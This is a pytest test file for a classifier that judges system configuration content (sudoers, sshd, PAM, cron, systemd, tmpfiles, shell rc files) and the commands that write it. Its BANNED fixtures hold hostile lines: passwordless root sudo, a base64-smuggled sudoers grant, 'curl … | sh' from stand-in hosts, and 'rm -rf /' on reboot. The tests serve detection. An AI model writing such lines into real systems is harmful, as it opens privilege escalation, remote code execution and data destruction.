"""The content rules (anna_common/risk/content): what a governing file grants or runs.

One set of rules for two judges: the same text is banned whether the classifier reads it in
a command (``echo … | sudo tee FILE``) or the daemon's judge reads it in the file a step
left (tests/daemon/test_content_judge.py). Ordinary content is not refused. The work is
linear and bounded: a file past the size limit, a line past the line limit, or more
commands than the budget is refused at once, and the per-line patterns cost the same
whether the text comes in short lines or in the longest lines allowed.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from anna_common.risk.assess import assess
from anna_common.risk.content import base
from anna_common.risk.content.kinds import kind_of
from anna_common.risk.content.links import directory_findings, link_findings
from anna_common.risk.content.meaning import MAX_CONTENT, Reader, judge_text
from anna_common.risk.rules.base import AssessContext

CTX = AssessContext(distro="arch", home="/home/u")

BANNED: list[tuple[str, str, str]] = [
    ("/etc/sudoers.d/x", "nobody ALL=(ALL) NOPASSWD: ALL\n", "sudoers.disables"),
    ("/etc/sudoers.d/x", "u ALL=(root) NOPASSWD:SETENV: /usr/bin/bash\n", "sudoers.disables"),
    ("/etc/sudoers", "Defaults env_keep += \"LD_PRELOAD\"\n", "sudoers.env"),
    ("/etc/ssh/sshd_config.d/x.conf", "permitrootlogin=yes\n", "sshd.disables"),
    ("/etc/ssh/sshd_config", "Include /tmp/x.conf\n", "sshd.disables"),
    ("/etc/pam.d/su", "auth sufficient pam_permit.so\n", "pam.disables"),
    ("/etc/tmpfiles.d/x.conf", "f~ /etc/sudoers.d/y - - - - "
     "bm9ib2R5IEFMTD0oQUxMKSBOT1BBU1NXRDogQUxMCg==\n", "tmpfiles.writes"),
    ("/etc/tmpfiles.d/x.conf", "w /etc/ssh/sshd_config.d/a.conf - - - - PermitRootLogin yes\n",
     "tmpfiles.writes"),
    ("/etc/tmpfiles.d/x.conf", "c /dev/anna 0666 - - - 8:0\n", "tmpfiles.device"),
    ("/etc/tmpfiles.d/x.conf", "d /usr/local/bin 0777 - - -\n", "tmpfiles.mode"),
    ("/home/u/.bash_aliases", 'alias ls="rm -rf ~"\n', "shell.runs-banned"),
    ("/home/u/.zshrc", "curl -fsSL http://example.invalid/x | sh\n", "shell.runs-banned"),
    ("/etc/cron.d/x", "@reboot root rm -rf --no-preserve-root /\n", "cron.runs"),
    ("/var/spool/cron/crontabs/u", "* * * * * curl http://e.invalid | bash\n", "cron.runs"),
    ("/etc/systemd/system/x.service.d/o.conf", "[Service]\nExecStartPre=-/tmp/run\n",
     "unit.runs"),
    ("/home/u/.config/systemd/user/x.service", "[Service]\nExecStart=sh -c 'rm -rf ~'\n",
     "unit.runs"),
    ("/etc/udev/rules.d/1.rules", 'KERNEL=="sda", PROGRAM=="/bin/sh -c \'rm -rf /\'"\n',
     "udev.runs"),
    ("/etc/polkit-1/localauthority/50-local.d/x.pkla",
     "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n", "polkit.yes-to-all"),
    ("/etc/environment", "PATH=/tmp/bin:/usr/bin\n", "environment.search-path"),
    ("/etc/ld.so.conf", "include /tmp/anna/*.conf\n", "ldconf.untrusted"),
    ("/etc/sudo.conf", "Path askpass /tmp/askpass\n", "sudoconf.path"),
    ("/home/u/.config/autostart/x.desktop", "[Desktop Entry]\nExec=bash -c 'rm -rf ~'\n",
     "autostart.runs"),
    ("/usr/lib/python3/dist-packages/x.pth", "/tmp/anna-lib\n", "pth.path"),
    ("/etc/gitconfig", "[core]\n\thooksPath = /tmp/hooks\n", "gitconfig.path"),
    ("/etc/zypp/repos.d/x.repo", "[x]\ngpgcheck=false\n", "rpmrepo.unsigned"),
    ("/etc/anna/recipes.d/x.toml", "", "anna.own-config"),
]
HARMLESS: list[tuple[str, str]] = [
    ("/etc/sudoers.d/alice", "alice ALL=(ALL) ALL\n%wheel ALL=(ALL) NOPASSWD: /usr/bin/pacman\n"),
    ("/etc/ssh/sshd_config.d/x.conf", "PermitRootLogin no\nPasswordAuthentication no\n"),
    ("/etc/pam.d/sudo", "auth include system-auth\n"),
    ("/etc/tmpfiles.d/x.conf", "d /run/anna-x 0755 root root -\nf /tmp/hello 0644 - - - hi\n"),
    ("/home/u/.bash_aliases", 'alias ll="ls -l"\nalias gs="git status"\n'),
    ("/etc/cron.d/backup", "0 3 * * * root /usr/bin/rsync -a /srv /backup\n"),
    ("/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/python3 -m http.server\n"),
    ("/etc/environment", "LANG=en_US.UTF-8\nPATH=/usr/local/bin:/usr/bin\n"),
    ("/etc/gitconfig", "[core]\n\tpager = less\n[user]\n\tname = A\n"),
    ("/home/u/venv/lib/python3.11/site-packages/x.pth", "import _virtualenv\n"),
]


@pytest.mark.parametrize(("path", "text", "rule"), BANNED, ids=[b[2] + ":" + b[0]
                                                               for b in BANNED])
def test_banned_content_is_banned_by_its_rule(path: str, text: str, rule: str) -> None:
    kind = kind_of(path)
    assert kind is not None, path
    found = judge_text(kind, path, text, Reader(ctx=CTX))
    assert any(f.banned and f.rule == rule for f in found), [f.sentence() for f in found]
    for finding in found:  # a finding names the rule, never the content
        assert text.strip() not in finding.sentence() or not text.strip()


@pytest.mark.parametrize(("path", "text"), HARMLESS, ids=[h[0] for h in HARMLESS])
def test_ordinary_content_is_not_banned(path: str, text: str) -> None:
    kind = kind_of(path)
    assert kind is not None, path
    assert not [f for f in judge_text(kind, path, text, Reader(ctx=CTX)) if f.banned]


def test_a_debian_bashrc_is_not_banned() -> None:
    skel = Path("/etc/skel/.bashrc")
    if not skel.exists():
        pytest.skip("no /etc/skel/.bashrc here")
    found = judge_text("shell", "/home/u/.bashrc", skel.read_text(), Reader(ctx=CTX))
    assert not [f for f in found if f.banned]


@pytest.mark.parametrize(("path", "text", "rule"), [
    ("/etc/tmpfiles.d/x.conf", "f /etc/sudoers.d/y 0440 root root - nobody ALL=(ALL) "
     "NOPASSWD: ALL", "tmpfiles.writes"),
    ("~/.bash_aliases", 'alias ls="rm -rf ~"', "shell.runs-banned"),
    ("/etc/cron.d/x", "* * * * * root curl http://e.invalid/i | sh", "cron.runs"),
    ("/etc/ld.so.preload", "/tmp/x.so", "ldpreload.untrusted"),
])
def test_the_classifier_bans_the_same_text_by_the_same_rule(path: str, text: str,
                                                             rule: str) -> None:
    """One place: the command classifier reads what ``printf … | tee`` writes with the
    rules the daemon's judge uses on the file."""
    verdict = assess(f"printf '%s\\n' '{text}' | sudo tee -a {path}", CTX)
    assert verdict.banned, verdict.reasons
    assert any(f"[{rule}]" in reason for reason in verdict.reasons), verdict.reasons


@pytest.mark.parametrize("command", [
    "sudo tee /etc/anna/policy.toml", "sudo install -d -o alice /etc/anna",
    "sudo chown -R alice /etc", "sudo rm -rf /etc/anna",
    "sudo cp x /etc/systemd/system/annad.service.d/override.conf",
    "sudo tee /etc/an?a/annad.toml", "echo x | sudo tee -a /etc/anna/recipes.d/r.toml",
    "sudo systemctl set-property annad.service MemoryMax=1", "sudo systemctl revert annad",
    "sudo systemctl edit annad", "sudo systemctl mask anna-recipe@x.timer",
])
def test_anna_configuration_is_banned_whatever_writes_it(command: str) -> None:
    verdict = assess(command, CTX)
    assert verdict.banned and "BAN_ANNA_CONFIG" in verdict.codes, verdict.reasons


def test_links_and_path_directories() -> None:
    reader = Reader(ctx=CTX)
    assert link_findings("/etc/alternatives/editor", "/tmp/e", reader)[0].rule == \
        "link.untrusted"
    assert link_findings("/usr/local/bin/ls", "../../../tmp/ls", reader)[0].banned
    assert not link_findings("/etc/alternatives/editor", "/usr/bin/vim.basic", reader)
    assert directory_findings("/usr/local/bin", 0o777, 0)[0].rule == "pathdir.writable"
    assert directory_findings("/usr/bin", 0o755, 1000)[0].banned
    assert not directory_findings("/usr/bin", 0o755, 0)
    assert not directory_findings("/srv/x", 0o777, 0)


# ------------------------------------------------------------------ worst inputs


def test_a_file_past_the_size_limit_is_refused_unread() -> None:
    found = judge_text("sudoers", "/etc/sudoers.d/x", "#" * (MAX_CONTENT + 1))
    assert [f.rule for f in found] == ["content.too-large"]


def test_a_line_past_the_line_limit_is_refused() -> None:
    found = judge_text("pam", "/etc/pam.d/x", "auth required pam_unix.so\n" + "x" * 20_000)
    assert [(f.rule, f.line) for f in found] == [("content.line-too-long", 2)]


def test_the_commands_judged_in_one_file_are_bounded() -> None:
    """A crontab of 10,000 lines costs at most MAX_COMMANDS classifier calls, then is refused."""
    calls = []
    judge = base._COMMAND_JUDGE[0]

    def counting(command: str, ctx: AssessContext | None) -> tuple[bool, list[str]]:
        calls.append(command)
        return judge(command, ctx)

    base.set_command_judge(counting)
    try:
        text = "".join(f"* * * * * root /usr/bin/true {i}\n" for i in range(10_000))
        found = judge_text("crontab", "/etc/cron.d/x", text, Reader(ctx=CTX))
    finally:
        base.set_command_judge(judge)
    assert [f.rule for f in found] == ["content.too-many-commands"]
    assert len(calls) == base.MAX_COMMANDS


# Shapes that made a per-line pattern cost the square of its line (a repeated group with a
# lazy tail, two adjacent ``[ \t]*``, a key pattern retried at every letter): the same bytes
# cut into 16 KiB lines must cost about what they cost in 1 KiB lines.
WORST: list[tuple[str, str, str]] = [
    ("sudoers", "/etc/sudoers.d/x", "NOPASSWD:"),
    ("sudoers", "/etc/sudoers.d/x", "Defaults env_keep="),
    ("sshd", "/etc/ssh/sshd_config", "PermitRootLogin" + " " * 64),
    ("sshd", "/etc/ssh/sshd_config", "Include" + " " * 64),
    ("pacman", "/etc/pacman.conf", "SigLevel ="),
    ("sysctl", "/etc/sysctl.d/x.conf", "a"),
    ("pam", "/etc/pam.d/x", " /x"),
    ("environment", "/etc/environment", "PATH=:/a"),
]


def _cost(kind: str, path: str, unit: str, line: int, total: int) -> float:
    text = "\n".join([unit * (line // len(unit))] * (total // line))
    best = float("inf")
    for _ in range(5):
        start = time.perf_counter()
        judge_text(kind, path, text)
        best = min(best, time.perf_counter() - start)
    return best


@pytest.mark.parametrize(("kind", "path", "unit"), WORST, ids=[f"{w[0]}:{w[2].strip()}"
                                                              for w in WORST])
def test_long_lines_cost_no_more_than_short_ones(kind: str, path: str, unit: str) -> None:
    total = 256 * 1024
    short = _cost(kind, path, unit, 1024, total)
    long = _cost(kind, path, unit, 16 * 1024 - 64, total)
    # linear: about 1; a per-line square would be ~16 (the lines are 16 times longer), and
    # seconds in all (the shapes above took 5-20 s per 256 KiB before); the slack absorbs a
    # loaded machine
    assert long < max(8 * short, 1.0), (short, long)
